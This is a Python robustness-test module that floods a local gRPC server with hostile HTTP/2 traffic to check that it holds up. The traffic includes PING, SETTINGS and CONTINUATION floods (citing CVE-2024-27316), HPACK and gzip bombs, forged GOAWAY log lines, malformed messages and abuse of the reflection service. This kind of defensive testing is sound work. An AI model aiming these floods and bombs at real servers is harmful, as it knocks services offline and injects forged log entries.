"""Floods of frames, bombs of headers and messages, and bytes that are no gRPC at all."""

import gzip
import random
import socket
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress

from grpc_reflection.v1alpha import reflection_pb2

from tests.benchmarks.load import (
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    SETTING,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
)
from tests.robustness.peer import CONTINUATION, CREATE, DELETE, GET, PRIORITY, Peer, block, data, integer, message, text
from tests.robustness.victim import Victim

BURST = 500
"""Frames that are sent together."""
GET_ONE = b"\x08\x01"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
KINDS = 10
"""The kinds of frames of HTTP/2."""


def flood(*frames: bytes) -> Callable[[Victim], None]:
    """Returns an attack: the same frames on one connection, as fast as it takes them."""
    burst = b"".join(frames) * BURST

    def attack(victim: Victim) -> None:
        with Peer(victim.port, timeout=victim.seconds) as peer:
            peer.send(peer.head(GET)[1])
            end, sent = time.monotonic() + victim.seconds * victim.share, 0
            while time.monotonic() < end and peer.send(burst):
                sent += BURST * len(frames)
            victim.note(frames=sent, closed=peer.closed.is_set())

    return attack


PINGS = flood(frame(PING, 0, 0, bytes(8)))
SETTINGS_FLOOD = flood(frame(SETTINGS, 0, 0, SETTING.pack(3, 100) * 20))
EMPTY_SETTINGS = flood(frame(SETTINGS, 0, 0))
WINDOW_UPDATES = flood(frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")), frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1"))
PRIORITIES = flood(frame(PRIORITY, 0, 3, b"\0\0\0\1\x10"))
EMPTY_DATA = flood(frame(DATA, 0, 1))
UNKNOWN_FRAMES = flood(frame(0x42, 0xFF, 1, bytes(100)))


def pings_unread(victim: Victim) -> None:
    """Sends pings and reads none of the answers."""
    with Peer(victim.port, reads=False) as peer:
        peer.socket.settimeout(0.5)
        end, sent = time.monotonic() + victim.seconds, 0
        while time.monotonic() < end and peer.send(frame(PING, 0, 0, bytes(8)) * BURST):
            sent += BURST
        victim.note(frames=sent)
        time.sleep(max(0.0, end - time.monotonic()))


def continuations(victim: Victim) -> None:
    """Opens a call with headers that never end: 1 KB in each CONTINUATION frame (CVE-2024-27316)."""
    with Peer(victim.port, timeout=victim.seconds) as peer:
        peer.send(frame(HEADERS, 0, 1, block(GET)))
        piece = b"\0" + text("x") + text("y" * 1000)
        end, sent = time.monotonic() + victim.seconds, 0
        while time.monotonic() < end and peer.send(frame(CONTINUATION, 0, 1, piece) * 50):
            sent += 50
        victim.note(frames=sent, closed=peer.closed.is_set())


def empty_continuations(victim: Victim) -> None:
    """Opens a call with headers that never end: empty CONTINUATION frames."""
    with Peer(victim.port, timeout=victim.seconds) as peer:
        peer.send(frame(HEADERS, 0, 1, block(GET)))
        end, sent = time.monotonic() + victim.seconds, 0
        while time.monotonic() < end and peer.send(frame(CONTINUATION, 0, 1) * BURST):
            sent += BURST
        victim.note(frames=sent, closed=peer.closed.is_set())


def hpack_bomb(victim: Victim) -> None:
    """Enters a header of 4,000 bytes into the table and names it 16,000 times in each call: 64 MB from 16 KB.

    The limit of headers holds by then: the client has acknowledged it.
    """
    with Peer(victim.port, timeout=victim.seconds) as peer:
        victim.expect(peer.acknowledged.wait(20), "the server sent no SETTINGS")
        _enter(peer)
        bomb = block(GET) + b"\xbe" * 16_000
        end, sent = time.monotonic() + victim.seconds, 0
        for stream in range(3, 2**31, 2):
            if time.monotonic() > end or not peer.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, bomb)):
                break
            sent += 1
        victim.note(calls=sent, closed=peer.closed.is_set())


def hpack_bomb_unacknowledged(victim: Victim) -> None:
    """Opens 100 calls with 4 to 10 MB of headers each on each of 3 connections that never acknowledge the limit.

    gRPC has the limit of the protocol until then, 16 MiB. Calls of the same method wait for the headers before them.
    """
    with ExitStack() as stack:
        peers = [stack.enter_context(Peer(victim.port, acknowledges=False)) for _ in range(3)]
        for peer in peers:
            _enter(peer)
            for number in range(victim.size(100)):
                stream, _ = peer.head(DELETE)
                bomb = block(DELETE) + b"\xbe" * (1000 + 15 * number)
                peer.send(frame(HEADERS, END_HEADERS, stream, bomb))
        time.sleep(victim.seconds)
        victim.note(codes=dict(sum((peer.codes() for peer in peers), start=Counter[str]())))


def _enter(peer: Peer) -> None:
    """Enters a header of 4,000 bytes into the table of a connection, by the first call on it."""
    enter = b"\x40" + text("x-bomb") + text("y" * 3900)
    stream, _ = peer.head(GET)
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block(GET) + enter))


def hpack_tables(victim: Victim) -> None:
    """Changes the size of the table, and writes integers of many bytes, in each block of headers."""
    with Peer(victim.port) as peer:
        blocks = [integer(size, 5, 0x20) + block(GET) for size in (0, 4096, 10**9)] + [b"\xff" + b"\xff" * 20]
        for burst in range(1, 2 * victim.size(1000), 2):
            if not peer.send(frame(HEADERS, END_HEADERS | END_STREAM, burst, blocks[burst // 2 % len(blocks)])):
                break
        victim.note(closed=peer.closed.is_set())


def long_headers(victim: Victim) -> None:
    """Sends 1 MB of headers in each call; the server's limit is 16 KiB at most."""
    with Peer(victim.port, timeout=victim.seconds) as peer:
        many = block(GET, *((f"x-{number}", "v" * 1000) for number in range(1000)))
        end, sent = time.monotonic() + victim.seconds, 0
        for stream in range(1, 2**31, 2):
            frames = frame(HEADERS, END_STREAM, stream, many[:16_000])
            for begin in range(16_000, len(many), 16_000):
                last = begin + 16_000 >= len(many)
                frames += frame(CONTINUATION, END_HEADERS if last else 0, stream, many[begin : begin + 16_000])
            peer.begun[stream] = time.monotonic()
            if time.monotonic() > end or not peer.send(frames):
                break
            sent += 1
        victim.note(calls=sent, codes=dict(peer.codes()))
        victim.expect("0" not in peer.codes(), "a call with 1 MB of headers succeeded")


def metadata(victim: Victim) -> None:
    """Makes calls with 7 KB of headers each, which are within the limit, and keeps 500 of them open."""
    with Peer(victim.port) as peer:
        more = [(f"x-{number}", "v" * 90) for number in range(60)]
        for _ in range(victim.size(500)):
            peer.send(peer.head(GET, *more)[1])
        time.sleep(victim.seconds / 2)
        victim.note(ended=dict(peer.codes()))


def gzip_bomb(victim: Victim) -> None:
    """Sends 1 MB that inflates to 1 GB, 20 times; the server's limit is 4 MiB of message."""
    bomb = gzip.compress(bytes(2**20 * victim.size(1000)), 9)
    with Peer(victim.port) as peer:
        count = victim.size(20)
        for _ in range(count):
            peer.call(CREATE, b"", ("grpc-encoding", "gzip"))  # a first one, of nothing
            stream, head = peer.head(CREATE, ("grpc-encoding", "gzip"))
            peer.send(head + b"".join(data(stream, message(bomb, compressed=True))))
        peer.wait(2 * count, 15)
        victim.note(bytes=len(bomb), codes=dict(peer.codes()))


def goaways(victim: Victim) -> None:
    """Says goodbye over and over, with a text that looks like lines of the server's log."""
    forged = b"\n2026-01-01 00:00:00,000 ERROR artemis_server: forged by a caller\n" * 200
    with Peer(victim.port, timeout=victim.seconds) as peer:
        peer.send(peer.head(GET)[1])
        end, sent = time.monotonic() + victim.seconds, 0
        while time.monotonic() < end and peer.send(frame(GOAWAY, 0, 0, bytes(4) + (11).to_bytes(4, "big") + forged)):
            sent += 1
        victim.note(frames=sent)
    victim.expect("forged by a caller" not in victim.server.log.text, "a caller wrote lines of the log")


def encodings(victim: Victim) -> None:
    """Makes calls with an encoding and a timeout that do not exist, which gRPC reports in its log."""
    with Peer(victim.port) as peer:
        end, sent = time.monotonic() + victim.seconds, 0
        while time.monotonic() < end:
            peer.call(GET, GET_ONE, ("grpc-encoding", "nonsense"), ("grpc-timeout", "soon"))
            sent += 1
            if sent % 50 == 0 and not peer.wait(sent - 1000, victim.seconds):
                break
        victim.note(calls=sent, codes=dict(peer.codes()))


def bad_messages(victim: Victim) -> None:
    """Sends messages whose prefix lies: compressed without an encoding, too long, too short, unknown encodings."""
    bodies = [
        message(GET_ONE, compressed=True),
        b"\x02" + message(GET_ONE)[1:],
        b"\0\xff\xff\xff\xff" + GET_ONE,
        b"\0\0\0\0\x09" + GET_ONE,
        b"\0\0\0\0",
        message(GET_ONE) + message(GET_ONE),
        b"",
        message(GET_ONE) + b"\0",
    ]
    count = victim.size(200)
    with Peer(victim.port) as peer:
        for number in range(count):
            encoding = ("grpc-encoding", ("gzip", "identity", "nonsense", "deflate")[number // 8 % 4])
            stream, head = peer.head(GET, encoding)
            peer.send(head + b"".join(data(stream, bodies[number % len(bodies)])))
        peer.wait(count, 5)
        victim.note(codes=dict(peer.codes()))
        victim.expect(peer.codes().total() >= count * 0.9, "calls were not answered")


def random_bytes(victim: Victim) -> None:
    """Sends random bytes: alone, after the preface, and as payloads of frames of every kind."""
    chance = random.Random(1)  # noqa: S311, the same attack each time
    for number in range(victim.size(300)):
        with suppress(OSError), socket.create_connection(("127.0.0.1", victim.port), timeout=2) as connection:
            noise = chance.randbytes(chance.randrange(1, 5000))
            if number % 3:
                noise = PREFACE + frame(SETTINGS, 0, 0) + noise
            if number % 3 == 2:
                frames = (
                    frame(chance.randrange(KINDS), chance.randrange(256), chance.randrange(9), chance.randbytes(20))
                    for _ in range(50)
                )
                noise = PREFACE + frame(SETTINGS, 0, 0) + b"".join(frames)
            connection.sendall(noise)


def other_protocols(victim: Victim) -> None:
    """Speaks HTTP/1.1, TLS, SSH and SOCKS to the port."""
    hellos = [
        b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n" * 50,
        b"POST /artemis.v1.EventService/GetEvent HTTP/1.1\r\nContent-Length: 100000000\r\n\r\n" + bytes(50_000),
        bytes.fromhex("16030100c8010000c40303") + bytes(190),
        b"SSH-2.0-OpenSSH_9.6\r\n",
        b"\x05\x01\x00",
        b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n",
    ]
    for number in range(victim.size(300)):
        with suppress(OSError), socket.create_connection(("127.0.0.1", victim.port), timeout=2) as connection:
            connection.sendall(hellos[number % len(hellos)])
            connection.settimeout(0.05)
            with suppress(TimeoutError):
                connection.recv(1000)


def names(path: Callable[[int], str], count: int) -> Callable[[Victim], None]:
    """Returns an attack: calls of methods that do not exist, each with a name of its own. None may be kept."""

    def attack(victim: Victim) -> None:
        total = victim.size(count)
        with Peer(victim.port) as peer:
            for number in range(total):
                peer.call(path(number), GET_ONE)
                if number % 100 == 99:  # no more than a hundred in flight: it is about names
                    peer.wait(number - 99, 5)
            peer.wait(total, 10)
            codes = peer.codes()
            victim.note(codes=dict(codes.most_common(4)))
            victim.expect("0" not in codes, "a method that does not exist answered")
            victim.expect(codes.total() >= total * 0.99, f"{total - codes.total()} calls were not answered")

    return attack


_QUESTION = message(
    reflection_pb2.ServerReflectionRequest(file_containing_symbol="artemis.v1.EventService").SerializeToString()
)


def _open_reflections(peer: Peer, count: int) -> list[int]:
    """Opens streams of reflection and returns their numbers."""
    streams = []
    for _ in range(count):
        stream, head = peer.head(REFLECTION)
        peer.send(head)
        streams.append(stream)
    return streams


def reflection_streams(victim: Victim) -> None:
    """Opens 2,000 streams of reflection that ask nothing, and some that ask without end and read nothing."""
    with Peer(victim.port) as quiet, Peer(victim.port, window=0) as greedy:
        for _ in range(victim.size(2_000)):
            quiet.send(quiet.head(REFLECTION)[1])
        streams = _open_reflections(greedy, 20)
        end = time.monotonic() + victim.seconds
        greedy.socket.settimeout(1)
        for stream in _around(streams):
            if time.monotonic() > end or not greedy.send(frame(DATA, 0, stream, _QUESTION * 50)):
                break
        time.sleep(max(0.0, end - time.monotonic()))
        victim.note(ended=dict(quiet.codes()))


def reflection_questions(victim: Victim) -> None:
    """Asks reflection as fast as it answers, on 30 streams."""
    with Peer(victim.port) as peer:
        streams = _open_reflections(peer, 30)
        end, sent = time.monotonic() + victim.seconds, 0
        for stream in _around(streams):
            if time.monotonic() > end or not peer.send(frame(DATA, 0, stream, _QUESTION)):
                break
            sent += 1
            if sent % 30 == 0:
                time.sleep(0.005)
        victim.note(questions=sent, answers=peer.frames[DATA])


def long_symbols(victim: Victim) -> None:
    """Asks reflection for symbols of 4 MB, which no answer may repeat without end."""
    question = reflection_pb2.ServerReflectionRequest(file_containing_symbol="s" * victim.size(4_000_000))
    with Peer(victim.port) as peer:
        for _ in range(20):
            peer.call(REFLECTION, question.SerializeToString())
        peer.wait(20, 10)
        victim.note(codes=dict(peer.codes()))


def _around(streams: list[int]) -> Iterator[int]:
    while True:
        yield from streams
